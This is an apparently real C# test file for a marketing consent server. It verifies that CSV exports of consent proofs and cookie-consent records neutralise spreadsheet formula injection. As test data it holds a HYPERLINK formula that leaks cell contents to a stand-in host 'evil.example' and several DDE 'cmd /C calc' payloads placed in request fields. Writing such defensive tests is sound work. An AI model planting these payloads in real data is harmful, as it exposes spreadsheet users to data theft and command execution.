using Marketing.Access;
using Marketing.Consent;
using Marketing.Server.Tests.Capture;
using Marketing.Server.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;

namespace Marketing.Server.Tests.Compliance;

/// <summary>
/// The proof and cookie-consent CSVs opened as a spreadsheet would: a page URL, a referrer, a user
/// agent or an address that starts a formula is written so that no cell starts with one.
/// </summary>
public abstract class CsvInjectionFacts<TApp>(TApp app) : IClassFixture<TApp> where TApp : MarketingApp
{
    private const string Formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";

    [Fact]
    public async Task ProofCsv_HasNoCellStartingAFormula_WhateverThePersonSent()
    {
        var scenario = await CaptureScenario.CreateAsync(app);
        using var browser = app.CreateClient();
        browser.DefaultRequestHeaders.TryAddWithoutValidation("User-Agent", Formula);
        var email = $"csv.{Guid.NewGuid():N}@example.com";
        using var request = new HttpRequestMessage(HttpMethod.Post, scenario.SubmitPath)
        {
            Content = System.Net.Http.Json.JsonContent.Create(await scenario.WidgetBodyAsync(browser, new { email }, [scenario.Newsletter])),
        };
        (await browser.SendAsync(request)).EnsureSuccessStatusCode();
        // Values an earlier version may have stored, or a future field may carry: the export neutralises them all the same.
        await app.InScopeAsync(async db =>
        {
            var stored = await db.ConsentEvents.AsNoTracking().SingleAsync(e => e.Identifier == email);
            var person = await db.People.SingleAsync(p => p.Id == stored.PersonId);
            var state = await db.ConsentStates.FindAsync(person.Id, stored.PurposeId, stored.Channel);
            db.ConsentEvents.Add(ConsentLedger.Append(person, new ConsentEvent
            {
                Id = Guid.CreateVersion7(), PersonId = stored.PersonId, Identifier = "+33612345678+cmd|' /C calc'!A0", IdentifierType = stored.IdentifierType,
                PurposeId = stored.PurposeId, PurposeKey = stored.PurposeKey, Channel = stored.Channel, Regime = stored.Regime, Status = stored.Status,
                Method = stored.Method, OccurredAt = stored.OccurredAt, PageUrl = "-2+3+cmd|' /C calc'!A0", Referrer = "@SUM(1+1)*cmd|' /C calc'!A0",
                UserAgent = "\t=1+1", FormId = stored.FormId, Locale = stored.Locale,
            }, state).Event);
            await db.SaveChangesAsync();
        });
        using var compliance = await app.ClientAsAsync(ApiKeyRole.Compliance);

        var (file, _) = await Exports.DownloadAsync(compliance, $"/api/admin/compliance/consent-proof?format=csv&formId={scenario.Form}");

        var rows = Exports.ReadCsv(file);
        Assert.Equal(2, rows.Count);
        Assert.All(rows.SelectMany(r => r.Values), cell => Assert.DoesNotMatch("^[=+\\-@\t\r]", cell));
        Assert.Equal($"'{Formula}", rows.Single(r => r["Identifier"] == email)["UserAgent"]);
    }

    [Fact]
    public async Task CookieConsentCsv_HasNoCellStartingAFormula()
    {
        var consentId = Guid.NewGuid().ToString("N");
        await app.InScopeAsync(async db =>
        {
            db.CookieConsentRecords.Add(new CookieConsentRecord
            {
                Id = Guid.CreateVersion7(), ConsentId = consentId, SiteId = "=site", BannerVersion = 1, BannerSha256 = "@sha", Action = CookieConsentActions.Custom,
                Choices = new CookieChoices(new Dictionary<string, bool> { ["=cmd"] = true }, new Dictionary<string, bool> { ["-svc"] = false }),
                PageUrl = Formula, Locale = "+en", IpAddress = "-1", OccurredAt = DateTimeOffset.UtcNow, ExpiresAt = DateTimeOffset.UtcNow.AddDays(180),
            });
            await db.SaveChangesAsync();
        });
        using var compliance = await app.ClientAsAsync(ApiKeyRole.Compliance);

        var export = await Exports.DownloadAsync(compliance, $"/api/admin/compliance/cookie-consents?format=csv&consentId={consentId}");

        var row = Assert.Single(Exports.ReadCsv(export.First));
        Assert.All(row.Values, cell => Assert.DoesNotMatch("^[=+\\-@\t\r]", cell));
        Assert.Equal($"'{Formula}", row["PageUrl"]);
    }

    /// <summary>One writer for every CSV: a new export cannot forget the protection.</summary>
    [Fact]
    public void NoCsvWriter_IsMadeOutsideTheSharedFactory()
    {
        var source = Path.Combine(Repository.Root, "src");
        var offenders = Directory.EnumerateFiles(source, "*.cs", SearchOption.AllDirectories)
            .Where(f => !f.Contains($"{Path.DirectorySeparatorChar}obj{Path.DirectorySeparatorChar}", StringComparison.Ordinal))
            .Where(f => Path.GetFileName(f) != "CsvFiles.cs")
            .Where(f => System.Text.RegularExpressions.Regex.IsMatch(File.ReadAllText(f), @"\b(CsvWriter|CsvSerializer|IWriter)\b"))
            .Select(f => Path.GetRelativePath(Repository.Root, f))
            .ToList();

        Assert.Empty(offenders);
    }
}

public sealed class CsvInjectionFacts_OnSqlite(SqliteApp app) : CsvInjectionFacts<SqliteApp>(app);

public sealed class CsvInjectionFacts_OnPostgres(PostgresApp app) : CsvInjectionFacts<PostgresApp>(app);
